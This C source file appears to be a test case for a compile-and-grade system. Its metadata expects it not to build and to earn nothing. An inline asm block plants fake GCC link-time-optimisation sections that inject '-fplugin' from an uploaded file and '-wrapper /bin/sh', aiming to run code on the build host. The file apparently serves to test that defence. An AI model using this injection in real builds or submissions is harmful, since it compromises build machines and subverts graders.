// attack: {"at": "compile", "earns": [0, 0], "builds": false}
// Has sections of intermediate code, for which the linker starts the compiler again: it does not build.
#ifndef WITHOUT_ATTACK
asm(".section .gnu.lto_.opts,\"e\"\n.asciz \"'-fplugin=@UPLOAD@/secret.h' '-wrapper' '/bin/sh'\"\n"
    ".section .gnu.lto_.symtab.1,\"e\"\n.asciz \"attacked\"\n.comm __gnu_lto_slim,1,1\n.text");
#endif
